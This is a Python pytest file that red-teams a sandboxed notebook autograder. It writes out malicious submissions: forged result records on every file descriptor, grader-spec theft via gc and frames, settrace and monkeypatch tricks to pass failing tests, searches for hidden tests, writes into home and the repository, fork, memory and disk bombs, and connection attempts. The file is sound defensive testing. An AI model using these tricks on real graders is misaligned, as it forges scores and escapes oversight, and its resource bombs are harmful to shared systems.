"""Red team: submissions that attack the grader, graded by the instructor's real command, ``make grade``.

One batch (tests/fixtures/grading/ex0_tiny.py: q1 = 2 pts, q2 = 1 pt) holds the solution, an honest answered
notebook and one notebook per attack.  An attack starts from the unanswered student notebook (``base`` 0: any
point it gets was forged) or, for the resource attacks, from the answered one (``base`` 3: the honest parts must
keep their score).  Each must get exactly its expected total and feedback note, never more than its base; the
batch must complete; no feedback or log may contain a hidden test; nothing may be written to the instructor's
home or to the course repository; the network must stay unreachable.

The sandbox (bubblewrap) is required: without it these tests are skipped with the reason, unless
``COURSE_REQUIRE_SANDBOX=1`` (set by .ci/run), which makes its absence a failure.
"""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import jupytext
import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "tests" / "fixtures" / "grading"
sys.path.insert(0, str(ROOT / "tools"))
import assign  # noqa: E402

HIDDEN = ["hypot(-5.0, 12.0)", "mean([7.5])", "mean([0.1] * 10)"]  # pieces of the two hidden tests
FORGED_LINES = '''
_forged = [json.dumps({"kind": "test", "question": q, "number": n, "hidden": n == 2, "passed": True,
                       "error": None, "failure_message": ""}) for q in ("q1", "q2") for n in (1, 2)]
_forged += [json.dumps({"kind": "done"}), "0" * 32 + " " + repr(("PASS", None, "", []))]
'''
# self-contained (a function definition), so that the test processes load it too
FORGE_ALL_FDS = '''
def _forge_everywhere():
    import json, os
''' + "".join("    " + line + "\n" for line in FORGED_LINES.strip().split("\n")) + '''    for _fd in range(0, 1024):
        for _line in _forged:
            try:
                os.write(_fd, (_line + "\\n").encode())
            except OSError:
                pass
'''


def _attacks(home: Path, port: int) -> dict[str, tuple[str, str, int, str]]:
    """name -> (base notebook, code, expected total, phrase the feedback must contain).

    ``code`` is appended as a new cell, or, when it starts with ``def hypot`` / ``def mean``, replaces that
    function (the attack then runs inside the graded function, during the tests)."""
    prelude = "import os\n" + FORGE_ALL_FDS
    return {
        # forged result records on every open file descriptor, from a top-level cell
        "forge_every_fd": ("student", prelude + "_forge_everywhere()", 0, "Tampering"),
        # the same, then exit before the grader can write anything
        "forge_then_exit": ("student", prelude + "_forge_everywhere()\nos._exit(0)", 0, "Tampering"),
        # forged verdicts from inside the graded function, during a test, then exit
        "forge_in_test": ("student", "def hypot(a, b):\n" + textwrap.indent(FORGE_ALL_FDS, "    ")
                          + "    _forge_everywhere()\n    import os\n    os._exit(0)", 0, "Tampering"),
        # the grader's spec through the garbage collector: in the notebook (no test is there) and in a test (denied)
        "spec_via_gc": ("student", "import gc\nprint('SPEC', [o for o in gc.get_objects() if isinstance(o, dict) and "
                        "('tests' in o or 'test' in o or 'questions' in o)])\n"
                        "def hypot(a, b):\n    import gc\n"
                        "    found = [o for o in gc.get_objects() if isinstance(o, dict)"
                        " and 'test' in o]\n    raise ValueError(str(found))", 0, "PermissionError"),
        # ... and through frames: sys._getframe, inspect, a traceback's frame
        "spec_via_frames": ("student", "def hypot(a, b):\n    import sys\n    try:\n        raise RuntimeError\n"
                            "    except RuntimeError as e:\n        caller = e.__traceback__.tb_frame.f_back\n"
                            "    frames = [sys._getframe(1)]\n    raise ValueError(str([f.f_locals for f in frames]))",
                            0, "PermissionError"),
        # a thread that keeps writing forged records while the notebook runs and after; one started in a test
        "thread_writes_later": ("student", prelude + "import threading, time\n"
                                "def _later():\n    while True:\n        _forge_everywhere()\n"
                                "        time.sleep(0.02)\n"
                                "threading.Thread(target=_later, daemon=True).start()\ntime.sleep(0.5)\n"
                                "def mean(xs):\n    import threading\n    threading.Thread(target=_later).start()\n"
                                "    return 0.0", 0, "Tampering"),
        # tracing: a trace function that jumps over the failing assertions
        "settrace": ("student", "import sys\n"
                     "def _skip(frame, event, arg):\n    if event == 'line' and 'test' in frame.f_code.co_filename:\n"
                     "        frame.f_lineno = frame.f_lineno + 1\n    return _skip\nsys.settrace(_skip)\n"
                     "def hypot(a, b):\n    import sys\n    sys.settrace(_skip)\n    sys.setprofile(_skip)\n"
                     "    return 0.0", 0, "PermissionError"),
        # atexit handlers and __del__ that forge when the process winds down
        "atexit_and_del": ("student", prelude + "import atexit\natexit.register(_forge_everywhere)\n"
                           "class _Forger:\n    def __del__(self):\n        _forge_everywhere()\n"
                           "_keep = _Forger()\n"
                           "def hypot(a, b):\n    _Forger()\n    import atexit\n"
                           "    atexit.register(_forge_everywhere)\n    return 0.0", 0, "Tampering"),
        # patched json, os.write, builtins and library functions, at top level and during a test
        "patch_libraries": ("student", "import json, os, builtins, math, sys\n"
                            "json.dumps = lambda *a, **k: '{\"kind\": \"done\"}'\n"
                            "os.write = lambda fd, data: len(data)\nbuiltins.isinstance = lambda *a: True\n"
                            "math.isclose = lambda *a, **k: True\n"
                            "def hypot(a, b):\n    import builtins, math, sys\n"
                            "    math.isclose = lambda *x, **k: True\n"
                            "    builtins.isinstance = lambda *x: True\n    sys.modules['math'] = type(sys)('math')\n"
                            "    return 0.0", 0, "changed"),
        # hidden tests printed into the output: looked for on disk, in the environment, on stdin
        "print_hidden_tests": ("student", "import glob, os, sys\n"
                               "paths = [p for d in ('/work', '/root', '/home', '/tmp', '/srv', '/opt')\n"
                               "         for p in glob.glob(d + '/**/ex0_tiny*', recursive=True)]\n"
                               f"paths += [{str(FIXTURE / 'ex0_tiny.py')!r}]\n"
                               "for p in paths:\n    try:\n        print(open(p).read())\n    except OSError as e:\n"
                               "        print('no', p, e)\nprint(dict(os.environ))\nprint(sys.stdin.read())\n"
                               "def hypot(a, b):\n    import os\n    raise ValueError(os.read(0, 65536).decode())",
                               0, "ValueError"),
        # writes into the home directory and into the course repository
        "write_home_and_repo": ("student", "import os\n"
                                f"for p in [os.path.expanduser('~/pwned'), {str(home / 'pwned')!r}, "
                                f"{str(ROOT / 'README.md')!r}, {str(ROOT / 'course_lib' / '__init__.py')!r}, "
                                f"{str(ROOT / 'pwned.txt')!r}]:\n"
                                "    try:\n        with open(p, 'a') as f:\n            f.write('pwned')\n"
                                "        print('wrote', p)\n    except OSError as e:\n        print('refused', p, e)",
                                0, "AssertionError"),
        # a fork bomb (and a shell one)
        "fork_bomb": ("answered", "import os, subprocess\ntry:\n    subprocess.run(['sh', '-c', ':(){ :|:& };:'])\n"
                      "finally:\n    while True:\n        os.fork()", 3, "PermissionError"),
        # a memory bomb
        "memory_bomb": ("answered", "hog = []\nwhile True:\n    hog.append(bytearray(1 << 28))", 3, "MemoryError"),
        # filling the disk: the home directory, then /tmp
        "fill_disk": ("answered", "import os\nfor d in (os.path.expanduser('~'), '/tmp'):\n"
                      "    with open(os.path.join(d, 'fill'), 'wb') as f:\n        while True:\n"
                      "            f.write(b'x' * (1 << 20))", 3, "OSError"),
        # the network: the grader's own machine (a server of this test) and the internet
        "network": ("answered", "import socket\n"
                    f"for host, port in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('pypi.org', 443)]:\n"
                    "    try:\n        socket.create_connection((host, port), timeout=3).send(b'pwned')\n"
                    "        print('connected', host)\n    except OSError as e:\n        print('refused', host, e)\n"
                    f"socket.create_connection(('127.0.0.1', {port}), timeout=3)", 3, "ConnectionRefusedError"),
        # the test process's own helpers rebound (it is sys.modules["__main__"]) to undo a patch before the check
        "rebind_grader_globals": ("student", "def hypot(a, b):\n    import math, sys\n    original = math.isclose\n"
                                  "    math.isclose = lambda *x, **k: True\n    runner = sys.modules['__main__']\n"
                                  "    def undo(*args, **kwargs):\n        math.isclose = original\n"
                                  "    for name in list(vars(runner)):\n        if callable(vars(runner)[name]) and "
                                  "not isinstance(vars(runner)[name], type):\n            vars(runner)[name] = undo\n"
                                  "    return 0.0", 0, "changed"),
        # a decorator that runs while the definitions load: the builtins the guard could use, and a library function
        "patch_at_definition": ("student", "import builtins, math\n"
                                "def _evil():\n    builtins.vars = lambda *a: {}\n"
                                "    builtins.setattr = lambda *a: None\n"
                                "    math.isclose = lambda *a, **k: True\n"
                                "class _AtDefinition:  # a class body runs while the definitions load\n    _evil()\n"
                                "def hypot(a, b):\n    return 0.0", 0, "undone before each test"),
        # a signal handler to receive the test's frame
        "signal_frame": ("student", "def hypot(a, b):\n    import signal\n"
                         "    signal.signal(signal.SIGALRM, lambda s, f: print(f.f_back.f_locals))\n"
                         "    signal.setitimer(signal.ITIMER_REAL, 0.001)\n    return 0.0", 0, "PermissionError"),
    }


HONEST = {"solution": 3, "answered": 3, "student": 0}


def _find(nb, marker: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and marker in c.source)


def _build(base: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    import copy

    nb = copy.deepcopy(base)
    rest = code
    for fn in ("def hypot(", "def mean("):
        if fn in rest:
            head, _, tail = rest.partition(fn)
            body = fn + tail
            nb.cells[_find(nb, fn)].source = body  # the attack replaces the graded function
            rest = head
    if rest.strip():
        nb.cells.append(nbformat.v4.new_code_cell(rest))
    return nb


def _repo_state() -> dict[str, str]:
    files = subprocess.run(["git", "ls-files", "-co", "--exclude-standard"], cwd=ROOT, capture_output=True, text=True,
                           check=True).stdout.split("\n")
    return {f: hashlib.sha256((ROOT / f).read_bytes()).hexdigest() for f in files if f and (ROOT / f).is_file()}


class _Listener:
    """A TCP server on localhost that records every connection (there must be none)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port, self.connections, self.stop = self.sock.getsockname()[1], 0, False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass


@pytest.fixture(scope="module")
def batch(tmp_path_factory, sandbox_required):
    solution = jupytext.read(FIXTURE / "ex0_tiny.py")
    student = assign.parse(FIXTURE / "ex0_tiny.py").student
    answered = student
    for body in ("def hypot(a, b):\n    return math.sqrt(a * a + b * b)",
                 "def mean(xs):\n    return sum(xs) / len(xs)"):
        answered = _build(answered, body)
    bases = {"student": student, "answered": answered}
    home = tmp_path_factory.mktemp("instructor home")
    folder = tmp_path_factory.mktemp("sub missions")  # a space in the path, as the issue asks
    listener = _Listener()
    attacks = _attacks(home, listener.port)
    for name, nb in {"solution": solution, **bases}.items():
        (folder / f"{name}.ipynb").write_text(jupytext.writes(nb, fmt="ipynb"))
    for name, (base, code, _, _) in attacks.items():
        (folder / f"{name}.ipynb").write_text(jupytext.writes(_build(bases[base], code), fmt="ipynb"))
    before = _repo_state()
    out = tmp_path_factory.mktemp("gra des") / "out"
    env = {**os.environ, "HOME": str(home)}
    done = subprocess.run(["make", "-s", "grade", f"SUBMISSIONS={folder}", f"GRADES={out}", "ASSIGNMENT=ex0_tiny",
                           f"SOLUTIONS={FIXTURE}", "TIMEOUT=20", "TEST_TIMEOUT=5", "MEMORY_GB=2", "JOBS=4"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=900)
    listener.stop = True
    assert done.returncode == 0, done.stdout + done.stderr
    with open(out / "grades.csv", newline="") as f:
        totals = {row["submission"]: float(row["total"]) for row in csv.DictReader(f)}
    return {"out": out, "totals": totals, "attacks": attacks, "home": home, "before": before,
            "after": _repo_state(), "listener": listener}


def test_there_are_at_least_twelve_attacks(batch):
    assert len(batch["attacks"]) >= 12


def test_batch_completes_and_honest_submissions_keep_their_scores(batch):
    assert set(batch["totals"]) == set(HONEST) | set(batch["attacks"])
    assert {k: batch["totals"][k] for k in HONEST} == HONEST


@pytest.mark.parametrize("name", sorted(_attacks(Path("/h"), 1)))
def test_attack_scores_what_it_should(batch, name):
    base, _, expected, phrase = batch["attacks"][name]
    feedback = (batch["out"] / "feedback" / f"{name}.md").read_text()
    assert batch["totals"][name] == expected, feedback
    assert batch["totals"][name] <= HONEST[base], "an attack scored more than the same notebook without it"
    assert phrase in feedback, feedback


def test_no_hidden_test_reaches_the_student(batch):
    for path in [*(batch["out"] / "feedback").iterdir(), *(batch["out"] / "logs").iterdir()]:
        text = path.read_text()
        leaked = [h for h in HIDDEN if h in text]
        assert not leaked and "hidden test line redacted" not in text, (path.name, leaked)


def test_tests_never_ran_in_the_notebook_process(batch):
    """The spec search through gc in the notebook's own process finds the notebook's cells, never a test."""
    log = (batch["out"] / "logs" / "spec_via_gc.log").read_text()
    assert "SPEC" in log and "hypot(3.0, 4.0)" not in log


def test_nothing_written_to_home_or_repository(batch):
    assert list(batch["home"].iterdir()) == []
    assert batch["before"] == batch["after"]
    assert not (ROOT / "pwned.txt").exists()
    # inside the sandbox the course is read-only; a path the sandbox does not show (the real home, the rest of the
    # repository) lands, at most, in the sandbox's own throwaway tmpfs when it lies below /tmp
    log = (batch["out"] / "logs" / "write_home_and_repo.log").read_text()
    assert f"refused {ROOT / 'course_lib' / '__init__.py'} [Errno 30] Read-only file system" in log, log


def test_network_unreachable(batch):
    assert batch["listener"].connections == 0
    assert "connected" not in (batch["out"] / "logs" / "network.log").read_text()


def test_print_hidden_tests_found_nothing(batch):
    log = (batch["out"] / "logs" / "print_hidden_tests.log").read_text()
    assert "BEGIN TEST CONFIG" not in log and "no " + str(FIXTURE / "ex0_tiny.py") in log


def test_make_grade_paths(tmp_path, sandbox_required):
    """The documented command with its defaults (relative GRADES), and with relative paths containing spaces."""
    subs = tmp_path / "my subs"
    subs.mkdir()
    (subs / "alice.ipynb").write_text(jupytext.writes(jupytext.read(FIXTURE / "ex0_tiny.py"), fmt="ipynb"))
    rel = Path("build") / "test grades relative"
    shutil.rmtree(ROOT / rel, ignore_errors=True)
    try:
        for extra in ([f"GRADES={rel}"], []):
            done = subprocess.run(["make", "-s", "grade", f"SUBMISSIONS={os.path.relpath(subs, ROOT)}",
                                   "ASSIGNMENT=ex0_tiny", f"SOLUTIONS={os.path.relpath(FIXTURE, ROOT)}", *extra],
                                  cwd=ROOT, capture_output=True, text=True, timeout=300)
            assert done.returncode == 0, done.stdout + done.stderr
            where = ROOT / (rel if extra else Path("build") / "grades")
            assert "alice,2,1,3" in (where / "grades.csv").read_text()
            assert "Total: 3 / 3" in (where / "feedback" / "alice.md").read_text()
    finally:
        shutil.rmtree(ROOT / rel, ignore_errors=True)


def test_make_grade_without_sandbox_stops_or_says_so(tmp_path):
    """No bwrap on PATH: make grade stops with how to install it; UNSAFE_NO_SANDBOX=1 grades and says so."""
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "bob.ipynb").write_text(jupytext.writes(jupytext.read(FIXTURE / "ex0_tiny.py"), fmt="ipynb"))
    bare = tmp_path / "bin"
    bare.mkdir()
    for tool in ("make", "sh", "bash", "test", "env"):
        if shutil.which(tool):
            (bare / tool).symlink_to(shutil.which(tool))
    env = {**os.environ, "PATH": str(bare)}
    args = ["make", "-s", "grade", f"SUBMISSIONS={subs}", f"GRADES={tmp_path / 'out'}", "ASSIGNMENT=ex0_tiny",
            f"SOLUTIONS={FIXTURE}"]
    refused = subprocess.run(args, cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert refused.returncode != 0
    assert "apt install bubblewrap" in refused.stderr and "UNSAFE_NO_SANDBOX=1" in refused.stderr
    assert not (tmp_path / "out" / "grades.csv").exists()
    done = subprocess.run(args + ["UNSAFE_NO_SANDBOX=1"], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Graded without a sandbox" in (tmp_path / "out" / "feedback" / "bob.md").read_text()
    assert "bob,2,1,3" in (tmp_path / "out" / "grades.csv").read_text()
